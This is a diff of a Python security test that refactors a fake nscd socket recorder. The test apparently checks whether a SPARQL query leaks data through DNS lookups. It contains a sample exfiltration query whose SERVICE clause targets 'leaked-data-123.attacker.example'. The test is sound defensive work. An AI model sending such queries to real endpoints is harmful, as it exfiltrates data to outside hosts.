@@ -11,12 +11,13 @@ import shutil
 import socket
 import subprocess
 import sys
-import threading
 from collections.abc import Iterator
-from contextlib import contextmanager, suppress
+from contextlib import contextmanager
 from pathlib import Path
 
 import pytest
+
+from .server_fixtures import recording
 
 NAME = b"leaked-data-123.attacker.example"
 QUERY = f"SELECT * WHERE {{ SERVICE <http://{NAME.decode()}/sparql> {{ ?s ?p ?o }} }}"
@@ -69,32 +70,10 @@ pytestmark = [
 @contextmanager
 def fake_nscd(folder: Path) -> Iterator[list[bytes]]:
     """A fake nscd on `folder`/socket recording every request it gets."""
-    received: list[bytes] = []
     server = socket.socket(socket.AF_UNIX)
     server.bind(str(folder / "socket"))
-    server.listen()
-    server.settimeout(0.2)
-    stop = threading.Event()
-
-    def serve() -> None:
-        while not stop.is_set():
-            try:
-                conn, _ = server.accept()
-            except TimeoutError:
-                continue
-            with conn:
-                conn.settimeout(2)
-                with suppress(OSError):
-                    received.append(conn.recv(4096))
-
-    thread = threading.Thread(target=serve, daemon=True)
-    thread.start()
-    try:
+    with recording(server) as received:
         yield received
-    finally:
-        stop.set()
-        thread.join(5)
-        server.close()
 
 
 def run_in_namespace(folder: Path, script: str, *args: str) -> str:
